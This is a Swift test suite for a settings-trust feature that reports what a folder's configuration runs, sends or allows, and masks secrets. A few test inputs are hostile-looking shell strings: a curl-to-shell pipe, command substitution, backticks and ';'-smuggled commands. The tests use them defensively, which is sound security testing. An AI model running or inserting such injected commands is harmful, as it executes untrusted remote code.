import Configuration
import Foundation
import Testing
import Unix

@testable import Trust

/// The list of what a folder does, and the report when that changes.
@Suite struct FolderEffectTests {
    private func effects(_ yaml: String, of clone: Clone) throws -> [FolderEffect] {
        try clone.write(yaml, to: "work/hector.yaml")
        return FolderEffect.all(
            of: try clone.load(explicit: "hector.yaml"), in: clone.folder,
            environment: clone.environment)
    }

    @Test(arguments: [
        #"API_KEY="$(curl evil | sh)" hector-generate --token "$(id)""#,
        "API_KEY=`evil` hector-generate", "hector-generate --token x;evil", "mysql -pevil",
        "curl -u a:b https://user:evil@e.example/?key=x", "TOKEN=${X:-evil} cat",
    ])
    func `nothing of a command is hidden as if it were a secret`(command: String) throws {
        try withClone { clone in
            let quoted = command.replacingOccurrences(of: "'", with: "''")
            let found = try effects(
                "agents: { a: { stages: { generate: '\(quoted)' } } }", of: clone)
            #expect(found.map(\.line) == ["runs agents.a.stages.generate: \(command)"])
        }
    }

    @Test func `keys of known services are hidden, and names of files are not`() throws {
        try withClone { clone in
            let found = try effects(
                """
                agents:
                  a: { stages: { generate: "KEY=sk-1234567890abcdef ./sk-1234567890abcdef.sh" } }
                plugins:
                  llm_providers:
                    m: { config: { api_key: "${KEY:-$(evil)}", token: other, list: [a, b] } }
                """, of: clone)
            #expect(
                found.map(\.line) == [
                    "runs agents.a.stages.generate: KEY=******** ./sk-1234567890abcdef.sh",
                    "sends plugins.llm_providers.m.config.api_key: ${KEY:-$(evil)}",
                    "sends plugins.llm_providers.m.config.token: ********",
                    "sends plugins.llm_providers.m.config.list: a b",
                ])
        }
    }

    @Test func `a change of what is hidden is reported`() throws {
        try withClone { clone in
            func write(_ token: String) throws {
                try clone.write(
                    "plugins: { llm_providers: { m: { path: /bin/m, config: { token: \(token) } } } }",
                    to: "work/hector.yaml")
            }
            try write("one")
            try clone.trust()
            for _ in 0..<2 { _ = try clone.load() }
            #expect(clone.notices.isEmpty)
            try write("two")
            for _ in 0..<2 { _ = try clone.load() }
            #expect(clone.notices.count == 1)
            #expect(
                clone.notices.first?.contains(
                    "now with another value sends plugins.llm_providers.m.config.token: ********")
                    == true)
        }
    }

    @Test(arguments: [
        "./scripts/gen.sh --fast", "python3 scripts/gen.sh", "cd / && 'scripts/gen.sh'",
        "sh -c 'exec ./scripts/gen.sh'", "X=./scripts/gen.sh run", "gen.sh", "a|gen.sh",
        #"sh -c "cat gen.sh | sh""#,
    ])
    func `the contents of scripts count, however a command names them`(command: String) throws {
        try withClone { clone in
            for name in ["gen.sh", "scripts/gen.sh"] {
                try clone.write("one", to: "work/\(name)")
            }
            let quoted = command.replacingOccurrences(of: "'", with: "''")
            try clone.write(
                "agents: { a: { approver: '\(quoted)' } }", to: "work/hector.yaml")
            try clone.trust()
            _ = try clone.load()
            #expect(clone.notices.isEmpty)
            for name in ["gen.sh", "scripts/gen.sh"] {
                try clone.write("two", to: "work/\(name)")
            }
            _ = try clone.load()
            #expect(clone.notices.count == 1)
            #expect(clone.notices.first?.contains("gen.sh' has other contents") == true)
        }
    }

    @Test func `keys count by their place, and an entry may have any name`() throws {
        try withClone { clone in
            try clone.write("", to: "work/p")
            let found = try effects(
                """
                plugins:
                  tool_providers:
                    config: { path: ./p }
                    files: { path: system-tools, config: { allowed_commands: [ls], allow_path: [x] } }
                agents:
                  stages: { tools: [{ provider: files, approve: always }] }
                """, of: clone)
            #expect(
                found.map(\.line) == [
                    "runs plugins.tool_providers.config.path: ./p",
                    "runs plugins.tool_providers.files.path: system-tools",
                    "allows plugins.tool_providers.files.config.allowed_commands: ls",
                    "allows plugins.tool_providers.files.config.allow_path: x",
                    "allows agents.stages.tools.approve: always",
                ])
            #expect(found[0].files == ["\(clone.folder)/p"])
        }
    }

    @Test func `a file of a stranger's decides neither time nor memory`() throws {
        try withClone { clone in
            let key = String(repeating: "k", count: 1000)
            let entries = (0..<20_000).map { "n\($0): https://e" }.joined(separator: ", ")
            let yaml =
                "plugins: { llm_providers: { m: { config: { \(key): { \(entries) } } } } }\n"
                + "agents: { a: { stages: { generate: '\(String(repeating: "x ", count: 100_000))' } } }"
            let clock = ContinuousClock()
            var found: [FolderEffect] = []
            let time = try clock.measure {
                found = try effects(yaml, of: clone)
                // Trust needs a list that can be read.
                #expect(throws: SettingsError.self) { try clone.trust() }
            }
            #expect(time < .seconds(30))
            #expect(found.count <= 5001)
            #expect(found.allSatisfy { $0.line.utf8.count < 5000 })
            #expect(found.last?.line == "runs 15001 more that are too many to list")
        }
    }

    @Test func `a completion leaves a changed folder out and keeps the report`() throws {
        try withClone { clone in
            func settings() throws -> Settings? {
                try Settings.load(
                    explicit: nil, environment: clone.environment, workingDirectory: clone.folder)
            }
            try clone.write("agents: { a: { approver: one } }", to: "work/hector.yaml")
            try clone.trust()
            #expect(clone.gate.isAdmitted(try settings(), unchanged: true))
            try clone.write("agents: { a: { approver: two } }", to: "work/hector.yaml")
            #expect(!clone.gate.isAdmitted(try settings(), unchanged: true))
            #expect(clone.gate.isAdmitted(try settings()))
            _ = try clone.load()
            #expect(clone.notices.count == 1)
            #expect(clone.gate.isAdmitted(try settings(), unchanged: true))
        }
    }

    @Test func `the folders of the user and of the system need no trust`() {
        let folders = UserFolders(environment: ["HOME": "/home/u"])
        for folder in ["/etc/hector", "/etc/hector/plugins", "/home/u/.hector"] {
            #expect(folders.hold(folder), "\(folder)")
        }
        for folder in ["/etc", "/etc/hectors", "/home/u"] { #expect(!folders.hold(folder)) }
    }

    @Test func `a remembered file needs trust in its folder unless it was named`() throws {
        try withClone { clone in
            try clone.write("agents: {}", to: "work/hector.yaml")
            try clone.write("agents: {}", to: "work/other.yaml")
            func load(_ name: String, isNamed: Bool) throws -> Settings? {
                try Settings.loadTrusted(
                    remembered: "\(clone.folder)/\(name)", isNamed: isNamed,
                    environment: clone.environment
                ) { _ in }
            }
            for name in ["hector.yaml", "other.yaml"] {
                #expect(try load(name, isNamed: true) != nil)
                let error = #expect(throws: SettingsError.self) { try load(name, isNamed: false) }
                #expect(error?.meaning == .notPermitted)
            }
            try clone.trust()
            for name in ["hector.yaml", "other.yaml"] {
                #expect(try load(name, isNamed: false) != nil)
            }
        }
    }

    @Test func `the files that are run are told to plugins that write files`() throws {
        try withClone { clone in
            try clone.addPlugin("work/own/p")
            try clone.write(
                """
                plugin_discovery: { paths: [./own] }
                agents: { a: { approver: ./scripts/gen.sh --fast } }
                """, to: "work/my.yaml")
            let files = RunFiles.all(
                of: try clone.load(explicit: "my.yaml"), in: clone.folder,
                environment: clone.environment)
            let expected = ["my.yaml", "scripts/gen.sh", "own/p", "own/p.plugin.yaml", "own"]
            #expect(Set(files) == Set(expected.map { "\(clone.folder)/\($0)" }))
        }
        #expect(RunFiles.value(nil, adding: ["/a"]) == #"["/a"]"#)
        #expect(RunFiles.value("x,y", adding: ["/a"]) == #"["x","y","/a"]"#)
        #expect(RunFiles.value(#"["x"]"#, adding: ["/a"]) == #"["x","/a"]"#)
    }
}
